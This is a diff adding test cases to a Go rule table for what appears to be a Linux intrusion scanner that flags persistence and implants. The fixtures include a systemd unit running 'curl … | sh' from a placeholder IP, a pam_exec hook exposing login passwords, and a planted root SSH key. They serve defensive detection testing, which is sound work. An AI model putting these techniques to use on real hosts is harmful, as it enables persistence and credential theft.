@@ -121,6 +121,9 @@ func TestRules(t *testing.T) {
 		}, "persistence.startup-file", "/etc/udev/rules.d/75-x.rules", finding.Medium, false, finding.Suspicious},
 		{"pam_exec", func(r *fixture.Root) {
 			r.Append("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log\n")
+		}, "persistence.pam", "/etc/pam.d/common-auth", finding.Critical, true, finding.Compromised},
+		{"pam_exec without the password", func(r *fixture.Root) {
+			r.Append("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet /usr/local/bin/log\n")
 		}, "persistence.pam", "/etc/pam.d/common-auth", finding.High, false, finding.Suspicious},
 		{"foreign PAM module", func(r *fixture.Root) {
 			r.File("/usr/lib/x86_64-linux-gnu/security/pam_sys.so", "\x7fELF\n", 0o644)
@@ -161,7 +164,16 @@ func TestRules(t *testing.T) {
 		{"executable in /dev/shm", func(r *fixture.Root) { r.File("/dev/shm/x", "\x7fELF implant\n", 0o755) },
 			"implant.tmp-executable", "/dev/shm/x", finding.Critical, false, finding.Compromised},
 		{"program in a hidden system folder", func(r *fixture.Root) { r.File("/usr/lib/.x/run", "\x7fELF\n", 0o755) },
-			"implant.hidden-executable", "/usr/lib/.x/run", finding.High, false, finding.Suspicious},
+			"implant.hidden-executable", "/usr/lib/.x/run", finding.Critical, false, finding.Compromised},
+		{"script in a hidden system folder", func(r *fixture.Root) { r.File("/usr/lib/.x/run.sh", "#!/bin/sh\ntrue\n", 0o755) },
+			"implant.hidden-executable", "/usr/lib/.x/run.sh", finding.High, false, finding.Suspicious},
+		{"download-and-run in a unit", func(r *fixture.Root) {
+			r.File("/etc/systemd/system/upd.service", "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.7/i.sh | sh'\n", 0o644)
+		}, "implant.pattern", "/etc/systemd/system/upd.service", finding.Critical, false, finding.Compromised},
+		{"root key added after setup", func(r *fixture.Root) {
+			r.Chtimes("/etc/machine-id", time.Now().Add(-90*24*time.Hour))
+			r.File("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkTgbCgSV7nYh3nQb0mVg1oYtaSbWBv4o0wKqjmXBcW k@x\n", 0o600)
+		}, "persistence.ssh-key", "root", finding.Medium, false, finding.Suspicious},
 		{"kernel thread name", func(r *fixture.Root) { r.File("/tmp/kthreadd", "\x7fELF\n", 0o755) },
 			"implant.masquerade", "/tmp/kthreadd", finding.High, true, finding.Compromised},
 		{"miner configuration", func(r *fixture.Root) {
